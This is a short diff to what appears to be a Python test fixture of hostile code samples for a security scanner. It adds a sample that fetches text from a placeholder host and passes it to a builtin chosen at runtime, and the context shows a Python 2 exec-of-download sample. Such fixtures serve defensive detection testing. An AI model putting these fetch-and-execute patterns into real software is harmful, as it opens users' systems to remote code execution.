@@ -122,6 +122,10 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("a.ipynb", 2),
         ),
+        "to a name that is worked out while it runs": py(
+            "import builtins, requests, sys\ngetattr(builtins, sys.argv[1])(requests.get('https://a.invalid').text)\n",
+            verdict="review",
+        ),
         "in Python 2": py("import urllib2\nexec urllib2.urlopen('https://a.invalid').read()\nprint 1\n"),
     },
     "remote_command": {
